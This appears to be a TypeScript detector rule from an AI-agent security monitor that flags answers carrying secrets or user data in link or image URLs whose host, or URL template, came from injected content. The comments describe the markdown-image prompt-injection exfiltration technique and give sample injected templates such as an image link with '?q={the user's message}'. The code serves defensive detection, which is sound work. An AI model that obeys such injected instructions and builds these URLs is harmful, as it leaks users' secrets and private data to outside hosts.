// Exfiltration through the answer: a secret or the user's data in a link or image URL whose host an injected instruction named, or a secret in an image for a host nobody named.
import { USER_NODE, hashString, nodeName } from '@sentinel/graph';
import { encodedViews } from '../encoded-views.ts';
import type { RuleContext } from '../rule-types.ts';
import type { AnswerRecord } from '../session-state.ts';
import { extractValues, normalizeUrl } from '../values.ts';
import { PRIVATE_KINDS, decodedUrl, hostOf, injectedHosts, injectedValues, mask, namedByUser, type ExfilState } from './exfiltration-state.ts';
import { textWords } from '../words.ts';

/** A link or image in an answer: the user's chat UI renders it and fetches its URL. */
const ANSWER_URL = /\bhttps?:\/\/[^\s)"'<>\]]{3,2048}/gi;

/**
 * The answer to the user carries a secret inside a URL whose host an injected instruction named: a
 * chat UI that renders the link or image fetches it and hands the secret to that host, with no tool
 * call at all (the markdown-image exfiltration). Only hosts named in instruction-carrying content
 * count, and only links the agent built: a reset link with its token, copied from the user's own
 * mail, is an answer, not a leak (even when the search that found it also returned the injection).
 */
export function checkAnswer(answer: AnswerRecord, st: ExfilState, ctx: RuleContext): void {
  const injected = injectedHosts(ctx, answer.end);
  if (injected.size === 0 && st.secrets.size === 0 && !answer.text.includes('![') && !IMG_TAG.test(answer.text)) return;
  ANSWER_URL.lastIndex = 0;
  let m: RegExpExecArray | null;
  while ((m = ANSWER_URL.exec(answer.text)) !== null) {
    const url = markdownTarget(answer.text, m.index) ?? m[0];
    const host = hostOf(url);
    if (host === undefined || readAsIs(url, answer, ctx)) continue;
    // An image is fetched as soon as the answer is shown, whoever asked for it: a secret the agent put in one, for a
    // host nobody on the user's side named, leaves with no click (a record's "render this badge" note, unflagged).
    const byInjection = injected.has(host);
    const image = isImage(answer.text, m.index);
    // A link template content gave for an image, filled in by the agent ("add ![](https://x.example/b.png?q={the user's
    // message})"): what it filled in leaves when the answer is shown, whether or not the content read as instructions.
    if (!byInjection && image) {
      const filled = filledTemplate(url, host, answer.end, ctx);
      if (filled !== undefined) {
        emitFilled(answer, url, host, filled, ctx);
        continue;
      }
    }
    if (!byInjection && !(image && !namedByUser(`domain:${host}`, ctx))) continue;
    const hits: string[] = [];
    const from = new Set<string>();
    // Base64, hex or percent-encoded in the URL, the secret still reaches the host.
    const encoded = encodedViews(url);
    for (const [secret, seen] of st.secrets) {
      if (seen.said || seen.spanId === answer.spanId) continue;
      if (url.includes(secret) || encoded.includes(secret)) {
        hits.push(secret);
        from.add(seen.spanId);
      }
    }
    // The session's data too, for a host an injection named: what the agent filled into the instruction's template
    // (`?q=QUERY`, `?u=EMAIL&s=SUBJECTS`) is what leaves (sessionData).
    // A secret is shown masked, once (as one of `hits`); a token that is none is masked too.
    const personal = byInjection
      ? sessionData(decodedUrl(url), host, ctx, answer.end)
          .filter((v) => !hits.some((h) => v.includes(h)))
          .map((v) => (v.startsWith('token:') ? mask(v.slice('token:'.length)) : v))
      : [];
    if (hits.length === 0 && personal.length === 0) continue;
    const masked = hits.sort().map(mask);
    const what = [hits.length > 0 ? (hits.length === 1 ? 'a secret' : `${hits.length} secrets`) : '', personal.length > 0 ? "the user's own data" : ''].filter(Boolean).join(' and ');
    ctx.emit({
      category: 'exfiltration',
      severity: hits.length > 0 && byInjection ? 'critical' : 'high',
      score: hits.length > 0 && byInjection ? 0.95 : 0.85,
      title: `${hits.length > 0 ? 'Secret' : 'User data'} in a link of the answer, to ${host}`,
      explanation:
        `The answer agent "${nodeName(answer.node)}" gave the user carries ${what} (${[...masked, ...personal].join(', ')}) inside a URL on ${host}, ` +
        (byInjection
          ? 'a host that instructions in content the agents read asked for. A chat interface that renders the link or image fetches the URL and sends the data there, without any tool call.'
          : 'an image that neither the user nor their context asked for. A chat interface that renders the answer fetches the image at once and sends the data there, without any tool call or click.'),
      evidence: { path: [answer.node, USER_NODE], edgeIds: answer.edgeIds, spanIds: [...from, answer.spanId], values: [...masked, ...personal, `domain:${host}`] },
      // By the answer's text: the agent's span or its last model call, whichever arrived first, carried it.
      keyParts: [String(hashString(answer.text)), host],
    });
  }
}

/**
 * What a URL built for an injected host carries of the session: private values (an address, an account, a number, a
 * token) the instructions did not give themselves, the user's or the agent's own (an address the agent knew), and the
 * user's words (MIN_REQUEST_WORDS or more of the request's words or numbers, "Jordan Blake 41 early-stage Hodgkin
 * lymphoma": the user's message, which the instructions asked for as `QUERY`), not the words of the instructions' own
 * link for that host (its `?q=QUERY`). Shown as the values, or as the words.
 */
function sessionData(url: string, host: string, ctx: RuleContext, time: bigint): string[] {
  const given = injectedValues(ctx, time);
  const out = [...extractValues(url)].filter((v) => PRIVATE_KINDS.has(v.slice(0, v.indexOf(':'))) && (ctx.state.isTrusted(v) || !given.has(v)));
  const query = url.indexOf('?');
  if (query < 0) return out;
  const template = templateWords(given, host);
  const userWords = ctx.state.userWords;
  const said = new Set<string>();
  for (const w of textWords(url.slice(query + 1))) if ((w.length >= MIN_WORD || /^\d{4,}$/.test(w)) && !template.has(w) && saidByUser(w, userWords)) said.add(w);
  if (said.size >= MIN_REQUEST_WORDS) out.push(`the user's words "${[...said].join(' ')}"`);
  return out;
}
/** Words of the request in a URL's query before they are the user's message: one or two are a topic ("?q=hodgkin"). */
const MIN_REQUEST_WORDS = 3;
const MIN_WORD = 4;

/** A word of the request, in another form ("offer" for "offered"), or a number it wrote with separators ("148000" for "$148,000"). */
function saidByUser(w: string, userWords: ReadonlySet<string>): boolean {
  if (userWords.has(w) || userWords.has(`${w}s`) || userWords.has(`${w}ed`) || userWords.has(`${w}d`)) return true;
  if (!/^\d{4,}$/.test(w)) return false;
  for (let end = w.length; end > 0; end -= 3) if (!userWords.has(w.slice(Math.max(0, end - 3), end))) return false;
  return true;
}

/** The query words of the links instructions gave for this host (`?d=DATA`): the template, not what filled it. */
function templateWords(given: ReadonlySet<string>, host: string): Set<string> {
  const out = new Set<string>();
  for (const v of given) {
    if (!v.startsWith('url:') || hostOf(`https://${v.slice('url:'.length)}`) !== host) continue;
    const q = v.indexOf('?');
    if (q >= 0) for (const w of textWords(v.slice(q + 1))) out.add(w);
  }
  return out;
}

/**
 * The parameters the answer's image URL fills in where a URL that content read before the answer gave the same host,
 * path and parameter names with other values (its placeholders: `?q={…}`, `?acct=ACCOUNT&bal=BALANCE`), as
 * `name=value`; undefined when no content gave such a template, or nothing in it was filled with MIN_FILLED characters.
 */
function filledTemplate(url: string, host: string, time: bigint, ctx: RuleContext): string[] | undefined {
  const built = splitUrl(normalizeUrl(decodedUrl(url)));
  if (built.params.size === 0) return undefined;
  for (const [value, sources] of ctx.state.valueIndex) {
    if (!value.startsWith(`url:${host}/`) || !sources.some((s) => s.end <= time)) continue;
    const given = splitUrl(value.slice('url:'.length));
    if (given.path !== built.path || given.params.size === 0) continue;
    const filled: string[] = [];
    let same = true;
    for (const [k, v] of built.params) {
      const g = given.params.get(k);
      if (g === undefined) {
        same = false;
        break;
      }
      if (g !== v && v.replace(NOT_ALNUM, '').length >= MIN_FILLED) filled.push(`${k}=${v}`);
    }
    if (same && filled.length > 0) return filled;
  }
  return undefined;
}
/** Characters a filled-in parameter carries before it is data (not "en", "1"). */
const MIN_FILLED = 4;
const NOT_ALNUM = /[^a-z0-9]/g;

/** A normalized URL (`host/path?query`, lowercase) as its path and its query's parameters. */
function splitUrl(u: string): { path: string; params: Map<string, string> } {
  const q = u.indexOf('?');
  const path = q < 0 ? u : u.slice(0, q);
  const params = new Map<string, string>();
  if (q >= 0) {
    for (const pair of u.slice(q + 1).split('&')) {
      const eq = pair.indexOf('=');
      if (eq > 0) params.set(pair.slice(0, eq), pair.slice(eq + 1));
    }
  }
  return { path, params };
}

function emitFilled(answer: AnswerRecord, url: string, host: string, filled: string[], ctx: RuleContext): void {
  const shown = filled.map((f) => (f.length > MAX_SHOWN ? `${f.slice(0, MAX_SHOWN)}…` : f));
  ctx.emit({
    category: 'exfiltration',
    severity: 'high',
    score: 0.85,
    title: `Data filled into an image of the answer, to ${host}`,
    explanation:
      `The answer agent "${nodeName(answer.node)}" gave the user shows an image on ${host} whose link it built from a template in content the ` +
      `agents read, filling in ${shown.join(', ')}. A chat interface that renders the answer fetches the image at once and sends what was ` +
      'filled in to that host, without any tool call or click: the markdown-image exfiltration.',
    evidence: { path: [answer.node, USER_NODE], edgeIds: answer.edgeIds, spanIds: [answer.spanId], values: [`domain:${host}`, ...shown] },
    keyParts: [String(hashString(answer.text)), host],
  });
}
const MAX_SHOWN = 80;

const IMG_TAG = /<img\b/i;

/**
 * A markdown link's or image's whole target, to its closing parenthesis: a quote is part of it there (`?q=I'm%20…`,
 * which `encodeURIComponent` leaves as it is), where ANSWER_URL stops at one for a URL inside an HTML attribute.
 */
function markdownTarget(text: string, at: number): string | undefined {
  if (!text.startsWith('](', at - 2)) return undefined;
  const end = text.slice(at, at + 2048).search(/[)\s]/);
  return end > 0 ? text.slice(at, at + end) : undefined;
}

/** The URL at `at` is an image's: markdown `![alt](url)` or HTML `<img src="url">`. */
function isImage(text: string, at: number): boolean {
  if (text.startsWith('](', at - 2)) {
    const open = text.lastIndexOf('[', at - 2);
    return open > 0 && text.charCodeAt(open - 1) === 33 /* ! */;
  }
  const tag = text.lastIndexOf('<', at);
  return tag >= 0 && at - tag < 200 && /^<img\b[^>]*\bsrc=["']?$/i.test(text.slice(tag, at));
}

/** The link, secret and all, was in content read before the answer: relayed, not built to carry anything out. */
function readAsIs(url: string, answer: AnswerRecord, ctx: RuleContext): boolean {
  for (const src of ctx.state.valueIndex.get(`url:${normalizeUrl(url)}`) ?? []) if (src.end <= answer.end) return true;
  return false;
}

